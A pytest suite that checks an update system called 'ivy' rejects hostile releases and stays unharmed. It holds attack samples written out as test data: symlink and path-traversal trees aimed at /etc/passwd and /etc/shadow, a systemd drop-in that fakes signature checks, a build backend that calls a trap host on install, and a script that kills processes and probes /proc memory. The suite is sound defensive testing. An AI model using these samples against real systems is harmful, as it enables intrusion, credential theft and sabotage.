"""Releases with bad intent, and what handles them taken over: the node says no, and is as it was.

One node for all of them, one after the other: whatever one does to it, the next ones see.
"""

import base64
import hashlib
import io
import os
import tarfile
from collections.abc import Generator, Sequence
from contextlib import closing
from pathlib import Path

import pytest
from testbed.bed import Bed, Node, Snapshot

from tests.node import hostile_trees
from tests.node.hostile_site import CANARY, assert_unharmed, open_site
from tests.support.cases import with_few
from tests.support.file_server import FileServer
from tests.support.installed import unit_property
from tests.support.releases import THIS, Graft, add_zeros, grafts, remove, write
from tests.support.signers import allowed_signers
from tests.support.token_trap import TokenTrap
from tests.support.update_site import TRAP_PORT, UpdateSite

GIGABYTE = 1 << 30
BULK = 40 << 20
MOST_BYTES_UNSIGNED = 10 << 20  # what is in the buffers of a fast line before git, on a busy machine, hangs up
SECONDS_TO_TEST = 5
RELEASE_TESTS = Path(__file__).parent / "release_tests"
GOOD_SIGNATURE = Path(__file__).parent / "good_signature.sh"
FILES_PORT = 8083

# Whoever got in where git fetches does this. What it writes says that each signature is good.
HOLE = """\
[Service]
ExecStopPost=/bin/sh -c 'for there in /var/lib/ivy/source.git /var/lib/ivy/.source.git.new; do \
    git config --file $there/config gpg.ssh.program /usr/local/bin/good-signature; done; true'
"""
# A package that is built by what it brings along.
BACKEND = """\
import urllib.request
try:
    urllib.request.urlopen("http://{address}:{port}/built")
except OSError:
    pass
"""
BUILT_BY_IT = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'

TREES: dict[str, tuple[Graft, str]] = {
    "9.1.1": (hostile_trees.file(["ivy", "..", "..", CANARY]), "objects that git does not accept"),
    "9.1.2": (hostile_trees.file([f"/var/lib/ivy/{CANARY}"]), "objects that git does not accept"),
    "9.1.3": (hostile_trees.file(["ivy", ".git", "hooks", CANARY]), "objects that git does not accept"),
    "9.1.4": (hostile_trees.symlink(["ivy", "link"], "/etc/passwd"), "ivy/link is a link that leads out"),
    "9.1.6": (
        grafts(
            hostile_trees.symlink(["ivy", "first"], "second"),
            hostile_trees.symlink(["ivy", "second"], "third/fourth"),
            hostile_trees.symlink(["ivy", "third", "fourth"], "../../../.."),
        ),
        "is a link that leads out",
    ),
    "9.1.7": (
        grafts(
            hostile_trees.symlink(["ivy", "double"], "/var/lib/ivy/data"),
            hostile_trees.file(["ivy", "double", CANARY]),
        ),
        "objects that git does not accept",
    ),
    "9.1.8": (hostile_trees.submodule(["ivy", "module"]), "is not a regular file (mode 160000)"),
    "9.1.9": (hostile_trees.bomb(["ivy", "bomb"]), "more files than a release may have"),
}


@pytest.fixture(scope="module")
def site(
    bed: Bed, installed: Snapshot, tmp_path_factory: pytest.TempPathFactory
) -> Generator[UpdateSite, None, None]:
    with open_site(bed, installed, tmp_path_factory.mktemp("hostile")) as site:
        yield site


@pytest.fixture(autouse=True)
def unharmed(site: UpdateSite) -> Generator[None, None, None]:
    yield
    assert_unharmed(site)


@pytest.mark.parametrize("version", with_few(TREES, 2))
def test_a_release_with_a_hostile_tree_is_rejected(site: UpdateSite, version: str) -> None:
    graft, reason = TREES[version]
    site.release(version, graft=graft)
    assert reason in site.rejects(version)


@pytest.mark.thorough
def test_a_release_whose_directory_is_a_link_is_rejected(site: UpdateSite) -> None:
    """The config would be written there."""
    site.release("9.1.5", remove("config"), graft=hostile_trees.symlink(["config"], "../data"))
    assert "config is a link that leads out" in site.rejects("9.1.5")


@pytest.mark.thorough
def test_a_gigabyte_of_zeros_is_rejected(site: UpdateSite) -> None:
    site.release("9.2.0", add_zeros("ivy/zeros", GIGABYTE))
    assert "more than a release may have" in site.rejects("9.2.0")


def test_a_setuid_program_is_a_plain_file(site: UpdateSite) -> None:
    site.release("9.2.1", graft=hostile_trees.file(["ivy", "program"], "#!/bin/sh\n", hostile_trees.SET_USER_ID))
    site.accepts("9.2.1")
    assert site.node.path("/var/lib/ivy/current/ivy/program").stat().st_mode & 0o7777 == 0o755
    site.accepts(THIS)


@pytest.mark.thorough
def test_a_renamed_tag_is_rejected(site: UpdateSite) -> None:
    site.release("9.3.0", tag_version="9.2.9")
    assert "is a renamed 'v9.2.9'" in site.rejects("9.3.0")


def test_who_gets_in_where_git_fetches_verifies_nothing(site: UpdateSite) -> None:
    site.node.copy_in(GOOD_SIGNATURE, "/usr/local/bin/good-signature")
    hole = site.node.path("/etc/systemd/system") / "ivy_sandbox-fetch.service.d" / "hole.conf"
    hole.parent.mkdir()
    hole.write_text(HOLE)
    site.node.run(["systemctl", "daemon-reload"])
    site.release("9.7.0", signer=site.foreign)
    for _ in range(2):  # what it has written waits for the next one
        assert "is signed by nobody who may" in site.rejects("9.7.0")
    hole.unlink()
    site.node.run(["systemctl", "daemon-reload"])
    assert site.node.run(["find", "/var/lib/ivy/source.git", "!", "-user", "root"]).stdout == ""


@pytest.mark.thorough
def test_of_a_version_that_nobody_signed_only_the_beginning_is_fetched(site: UpdateSite) -> None:
    def add_bulk(tree: Path) -> None:
        (tree / "ivy" / "bulk").write_bytes(os.urandom(BULK))

    long_message = base64.b64encode(os.urandom(90_000)).decode()
    site.release("9.7.1", add_bulk, signer=None)
    site.release("9.7.2", add_bulk, signer=site.foreign)
    site.release("9.7.3", add_bulk, signer=None, message=long_message)
    site.maker.lightweight_tag("9.7.4", site.maker.release("9.7.5", add_bulk))
    for version in ("9.7.1", "9.7.2", "9.7.3", "9.7.4"):
        before = site.git.bytes_transferred()
        reason = site.rejects(version)
        assert ("is signed by nobody who may" if version == "9.7.2" else "is not signed") in reason
        fetched = site.git.bytes_transferred() - before
        print(f"{version}: {fetched} bytes")
        assert fetched < MOST_BYTES_UNSIGNED


@pytest.mark.thorough
def test_what_is_on_the_disk_is_good_only_if_it_would_be_now(site: UpdateSite) -> None:
    signers = site.node.path("/etc/ivy/allowed_signers")
    known = signers.read_text()
    site.apply(site.config(updater={"require_signed_tags": False}))
    site.release("9.7.6", signer=None)
    site.accepts("9.7.6")
    site.apply(site.config(updater={"require_signed_tags": True}))
    signers.write_text(known + allowed_signers([site.foreign]))
    site.release("9.7.7", signer=site.foreign)
    site.accepts("9.7.7")
    assert "the tag v9.7.6 is not signed" in site.rejects("9.7.6")
    # The way back of the admin, who decides, is open.
    site.node.run(["ivy", "rollback"], timeout=120)
    assert site.running()[0] == "9.7.6"
    site.git.stop()
    site.accepts("9.7.7")  # it is good as it is, without a server
    site.git.start()
    site.accepts(THIS)
    signers.write_text(known)
    assert "is signed by nobody who may" in site.rejects("9.7.7")


def test_a_lock_file_names_no_code_to_run(site: UpdateSite, tmp_path: Path) -> None:
    address = site.git.address
    content = _source_package({"backend.py": BACKEND.format(address=address, port=TRAP_PORT)})
    (tmp_path / "evil-1.0.tar.gz").write_bytes(content)
    digest = hashlib.sha256(content).hexdigest()
    line = f"evil @ http://{address}:{FILES_PORT}/evil-1.0.tar.gz --hash=sha256:{digest}\n"
    site.release("9.7.8", write("requirements.lock", line))
    with (
        closing(FileServer(address, FILES_PORT, tmp_path)),
        closing(TokenTrap(address, TRAP_PORT)) as trap,
    ):
        assert "requirements.lock, line 1: must look like" in site.rejects("9.7.8")
    assert trap.asked == []


@pytest.mark.thorough
def test_root_reads_no_lock_file_that_is_elsewhere(site: UpdateSite) -> None:
    """What stands in the line that is wrong is told."""
    link = hostile_trees.symlink(["requirements.lock"], "/etc/shadow")
    site.release("9.7.9", remove("requirements.lock"), graft=link)
    assert "requirements.lock is a link that leads out" in site.rejects("9.7.9")


def _source_package(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, text in {"pyproject.toml": BUILT_BY_IT, **files}.items():
            about = tarfile.TarInfo(f"evil-1.0/{name}")
            about.size = len(text)
            archive.addfile(about, io.BytesIO(text.encode()))
    return buffer.getvalue()


def test_the_tests_of_a_release_can_do_no_harm(site: UpdateSite) -> None:
    site.node.path("/etc/ivy/node.key").write_text("the key of a certificate")
    site.node.run(["chgrp", "ivy", "/etc/ivy/node.key"])
    site.node.run(["chmod", "0640", "/etc/ivy/node.key"])
    harm = (RELEASE_TESTS / "harm.py").read_text().replace("BROKER_ADDRESS", site.platform.address)
    site.release("9.5.0", write("tests/release/test_zz_harm.py", harm))
    # The last of them: what it starts leaves no room for others.
    processes = _main_processes(site.node)
    reason = site.rejects("9.5.0")
    assert "harm done: []" in reason
    assert _main_processes(site.node) == processes


@pytest.mark.thorough
def test_the_tests_of_a_release_that_never_end_are_ended(site: UpdateSite) -> None:
    drop_in = site.node.path("/etc/systemd/system") / "ivy_sandbox-test.service.d" / "short.conf"
    drop_in.parent.mkdir()
    drop_in.write_text(f"[Service]\nRuntimeMaxSec={SECONDS_TO_TEST}\n")
    site.node.run(["systemctl", "daemon-reload"])
    never_ends = (RELEASE_TESTS / "never_ends.py").read_text()
    site.release("9.6.0", write("tests/release/test_never_ends.py", never_ends))
    assert "the tests of version 9.6.0 failed" in site.rejects("9.6.0")
    assert "ivy_sandbox-test.service: Service reached runtime time limit" in site.node.journal(
        "--unit=ivy_sandbox-test"
    )


def _main_processes(node: Node) -> Sequence[str]:
    units = ("ivy-dummy-procedure", "ivy-system-checks", "ivy-tenta")
    return [unit_property(node, unit, "MainPID") for unit in units]


# What two steps at once are: a person lists versions while a pass verifies one.
VICTIM = """
from pathlib import Path
from ivy.utils.updates import sandbox
victim = Path("/var/lib/ivy/.victim.new")
victim.mkdir()
sandbox.run("ask", ["sleep", "600"], writable=victim)
"""
TAKEN_OVER = """
import glob, os, signal
found = []
for number in map(int, (path.split("/")[2] for path in glob.glob("/proc/[0-9]*"))):
    if number != os.getpid():
        try:
            found.append((number, open(f"/proc/{number}/cmdline").read()))
            open(f"/proc/{number}/mem", "r+b")
        except OSError:
            pass
for number in range(2, 1 << 17):
    try:
        if number not in (os.getpid(), os.getppid()):
            os.kill(number, signal.SIGKILL)
            found.append(f"killed {number}")
    except OSError:
        pass
for name in ("planted", "../source.git/config"):
    try:
        open(f"/var/lib/ivy/.victim.new/{name}", "a").close()
        found.append(name)
    except OSError:
        pass
print(found)
"""
ATTACK = (
    f"from ivy.utils.updates import sandbox\nprint(sandbox.run(%r, ['/usr/bin/python3', '-c', {TAKEN_OVER!r}]))"
)
PYTHON = "/var/lib/ivy/current/.venv/bin/python3"
VICTIM_UNIT = "ivy_sandbox-ask"


@pytest.fixture
def victim(site: UpdateSite) -> Generator[str, None, None]:
    """A step that goes on, which verifies a version. Returns its process."""
    node = site.node
    node.run(["systemd-run", "--quiet", "--collect", "--unit=victim", PYTHON, "-c", VICTIM])

    def pid() -> str:
        found = unit_property(node, VICTIM_UNIT, "MainPID")
        return "" if found == "0" else found

    yield node.wait_for(pid, 30, "a step that goes on")
    node.run(["systemctl", "stop", f"{VICTIM_UNIT}.service", "victim.service"], check=False)
    node.run(["rm", "-rf", "/var/lib/ivy/.victim.new"])


@pytest.mark.parametrize("step", ["list", "fetch", "install", "test"])
def test_a_step_that_is_taken_over_meets_no_other(site: UpdateSite, victim: str, step: str) -> None:
    said = site.node.run([PYTHON, "-c", ATTACK % step]).stdout.strip()
    assert said == "[]"
    assert unit_property(site.node, VICTIM_UNIT, "MainPID") == victim
